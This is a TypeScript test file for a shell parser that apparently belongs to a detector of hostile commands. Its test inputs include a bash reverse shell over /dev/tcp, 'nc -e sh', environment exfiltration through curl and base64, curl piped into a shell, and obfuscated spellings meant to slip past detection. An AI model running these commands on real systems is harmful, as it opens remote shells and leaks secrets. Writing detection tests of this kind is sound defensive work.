// biome-ignore-all lint/suspicious/noTemplateCurlyInString: shell text, not templates
import { describe, expect, it } from 'vitest';
import { parseShell } from '../../../src/detect/shell/parse.ts';
import { commandsOf, pipesOf, redirectionsOf, wordsOf } from './support.ts';

describe('words of a shell string', () => {
  it.each([
    ['c\'\'u"r"l x', 'curl x'],
    ['c\\url x', 'curl x'],
    ['cu\\\nrl x', 'curl x'],
    ["$'\\x63url' $'a\\tb' $'\\u0041' $'\\101'", 'curl a\tb A A'],
    ['curl$IFS-s${IFS}x', 'curl -s x'],
    ['curl$IFS$9x', 'curl x'],
    ['c$@url w$1get', 'curl wget'],
    ['{curl,-s,http://x}', 'curl -s http://x'],
    ['a{b,c{d,e}}f', 'abf acdf acef'],
    ['{a} {1..3} a,b', '{a} {1..3} a,b'],
    ['echo \'a  b\' "c  d"', 'echo a  b c  d'],
    ['echo "a\\"b\\$c\\d"', 'echo a"b$c\\d'],
    ['U=http://h/x; curl "$U"', 'curl http://h/x'],
    ['C="nc -e sh"; $C h 1', 'nc -e sh h 1'],
    ['export A=nc; $A h', 'export A=nc|nc h'],
    ['curl $HOST ${PORT:-80} $((1+2))', 'curl $HOST ${PORT:-80} $((1+2))'],
    ['echo $ a$', 'echo $ a$'],
    ['nc h 1 # nc -e sh', 'nc h 1'],
    ['echo a#b', 'echo a#b'],
    ['! time -p nc h 1', 'nc h 1'],
  ])('%j reads as %j', (text, expected) => {
    expect(commandsOf(text).join('|')).toBe(expected);
  });

  it('marks what only the running shell knows', () => {
    const [command] = parseShell('curl "http://$H/" \'$x\' *.sh').commands;
    expect(command?.words.map((word) => [word.has_unknown, word.quoted, word.glob])).toEqual([
      [false, false, false],
      [true, true, false],
      [false, true, false],
      [false, false, true],
    ]);
  });

  it('forgets a variable that becomes unknown', () => {
    expect(commandsOf('A=x; A=$(id); echo $A')).toContain('echo $A');
    expect(commandsOf('A=x; for A in 1 2; do echo $A; done')).toContain('echo $A');
  });
});

describe('commands of a shell string', () => {
  it.each([
    ['a;b&&c||d|e&f\ng', ['a', 'b', 'c', 'd', 'e', 'f', 'g']],
    ['(a; b) && { c; d; }', ['a', 'b', 'c', 'd']],
    ['if a; then b; elif c; then d; else e; fi', ['a', 'b', 'c', 'd', 'e']],
    ['while a; do b; done; until c; do d; done', ['a', 'b', 'c', 'd']],
    ['for i in 1 2; do a $i; done', ['a $i']],
    ['for ((i=0;i<3;i++)); do a; done', ['a']],
    ['case $1 in x) a;; y|z) b;; esac; c', ['a', 'b', 'c']],
    ['f() { a; }; function g { b; }; f', ['a', 'b', 'f']],
    ['[[ -f /x && 1 < 2 ]] && a', ['[[ -f /x 1 2 ]]', 'a']],
    ['((i++)); a', ['a']],
    ['a=(1 2 $(b)); c', ['b', 'c']],
    ['echo "a|b;c" \'d&&e\'', ['echo a|b;c d&&e']],
    ['curl -f http://localhost/ || exit 1', ['curl -f http://localhost/', 'exit 1']],
    ['curl "http://h/$(env|base64)"', ['curl http://h/$(env|base64)', 'env', 'base64']],
    ['echo `a \\`b\\``', ['echo `a \\`b\\``', 'a `b`', 'b']],
    ['bash <(curl x) > >(tee y)', ['bash <(curl x)', 'curl x', 'tee y']],
    ['echo ${x:-$(id)}', ['echo ${x:-$(id)}', 'id']],
  ])('%j', (text, expected) => {
    expect(commandsOf(text)).toEqual(expected);
  });

  it.each([
    ['a | b | c', ['a>b', 'b>c']],
    ['(a||b)|c', ['a>c', 'b>c']],
    ['a |& b', ['a>b']],
    ['a | while read l; do b; done', ['a>read', 'a>b']],
    ['if a; then b; fi | c', ['a>c', 'b>c']],
    ['a || b', []],
    ['x "$(a|b)" | c', ['a>b', 'x>c']],
  ])('%j pipes', (text, expected) => {
    expect(pipesOf(text).sort()).toEqual([...expected].sort());
  });

  it.each([
    ['bash -i >& /dev/tcp/h/443 0>&1', ['1>&/dev/tcp/h/443', '0>&1']],
    ['exec 3<>/dev/tcp/h/1', ['3<>/dev/tcp/h/1']],
    ['sh <&196 >&196 2>&196', ['0<&196', '1>&196', '2>&196']],
    ['a &>x', ['1&>x']],
    ['a >x 2>>y <z >|w', ['1>x', '2>>y', '0<z', '1>|w']],
    ['sh <<< "id"', ['0<<<id']],
    ['{ a; b; } > /tmp/x', ['1>/tmp/x']],
    ['exec {fd}<>/dev/tcp/h/1', ['-1<>/dev/tcp/h/1']],
    ['echo 2 >x', ['1>x']],
    ['cat <<EOF\na $b\nEOF', ['0<<a $b']],
    ["cat <<-'E'\n\ta\n\tE\n", ['0<<-a']],
  ])('%j redirects', (text, expected) => {
    expect(redirectionsOf(text)).toEqual(expected);
  });

  it('reads on behind a here-document', () => {
    expect(commandsOf('cat <<E | sh\ncurl x\nE\necho done')).toEqual(['cat', 'sh', 'echo done']);
  });

  it('finds substitutions in a here-document unless its end is quoted', () => {
    expect(commandsOf('cat <<E\n$(id)\nE')).toContain('id');
    expect(commandsOf("cat <<'E'\n$(id)\nE")).not.toContain('id');
  });

  it('tells where a substitution stands', () => {
    const { commands } = parseShell('X=$(a) curl -d "$(b)" <(c) > "$(d)"');
    const inside = commands.flatMap((command) =>
      command.inside
        ? [
            [
              wordsOf(command),
              command.inside.kind,
              command.inside.place,
              command.inside.index,
              command.inside.command,
            ],
          ]
        : [],
    );
    expect(inside).toEqual([
      ['a', 'command', 'assignment', 0, 0],
      ['b', 'command', 'word', 2, 0],
      ['c', 'process_in', 'word', 3, 0],
      ['d', 'command', 'redirection', 0, 0],
    ]);
  });

  it('tells what decides a loop from what it repeats', () => {
    const { commands, loops } = parseShell(
      'until nslookup db; do sleep 1; done; for p in 22 80; do echo >/dev/tcp/h/$p; done',
    );
    const seen = commands
      .filter((command) => command.words.length > 0)
      .map((command) => [
        wordsOf(command),
        command.loop_condition,
        command.loops.map((index) => loops[index]?.kind).join(),
      ]);
    expect(seen).toEqual([
      ['nslookup db', true, 'until'],
      ['sleep 1', false, 'until'],
      ['echo', false, 'for'],
    ]);
    expect(loops[1]).toMatchObject({ variable: 'p', words: [{ text: '22' }, { text: '80' }] });
  });

  it('tells what joins commands and what runs in the background', () => {
    const { commands } = parseShell('a && b || c; d & e');
    expect(commands.map((command) => command.after)).toEqual(['start', '&&', '||', ';', '&']);
    expect(commands.map((command) => command.background)).toEqual([false, false, false, true, false]);
  });

  it('keeps assignments apart from words', () => {
    expect(parseShell('A=1 B="x y" nc h').commands[0]).toMatchObject({
      assignments: [
        { name: 'A', value: { text: '1' } },
        { name: 'B', value: { text: 'x y' } },
      ],
      words: [{ text: 'nc' }, { text: 'h' }],
    });
  });

  it.each([
    ') } done fi ;; nc x 1',
    'nc x 1 ; ) ',
    '&& nc x 1',
    '| nc x 1',
    'if nc x 1',
    '( nc x 1',
    'nc x 1 "',
    '{ nc x 1',
  ])('%j is broken, and yet nc is found', (text) => {
    expect(commandsOf(text)).toContain('nc x 1'.concat(text.endsWith('"') ? ' ' : ''));
  });
});
